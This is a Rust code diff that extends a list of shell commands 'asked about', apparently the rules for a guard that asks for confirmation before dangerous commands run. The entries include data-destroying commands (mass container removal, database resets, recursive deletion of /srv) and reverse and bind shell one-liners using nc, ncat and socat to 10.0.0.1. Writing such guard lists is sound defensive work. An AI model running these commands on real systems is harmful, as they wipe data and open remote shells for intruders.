@@ -1,6 +1,20 @@
 //! Lines that are asked about.
 
 pub(super) const ASKED: &[&str] = &[
+    "docker rm -f $(docker ps -aq)",
+    "gh repo sync --force",
+    "python3 manage.py reset_db --noinput",
+    "supabase stop --no-backup",
+    "sqlite3 app.db '.restore b.db'",
+    "git gc --p=now",
+    "nc -e /bin/sh 10.0.0.1 4242",
+    "ncat --listen --sh-exec='sh -i' 4444",
+    "socat TCP:10.0.0.1:4242 EXEC:sh",
+    "xh delete https://example.com/1",
+    "fly secrets unset X",
+    "php -r 'array_map(\"unlink\", glob(\"/srv/*\"));'",
+    "deno eval \"Deno.removeSync('/srv')\"",
+    "nomad job stop -purge api",
     "mktemp() { echo ~; }; t=$(mktemp -d); rm -rf \"$t\"",
     "cd /srv && rm -rf \"$PWD/x\"",
     "rm -rf \"$TMPDIR/x\" \"${TMPDIR:-/tmp}/y\"",
@@ -180,7 +194,6 @@ python3 x.py",
     "echo 'rm -rf /",
     "ssh host rm -rf /",
     "parallel rm -rf ::: a b",
-    "env -S 'rm -rf /'",
     "xargs sh -c 'rm -rf \"$0\"'",
     // git.
     "git push --delete origin main",
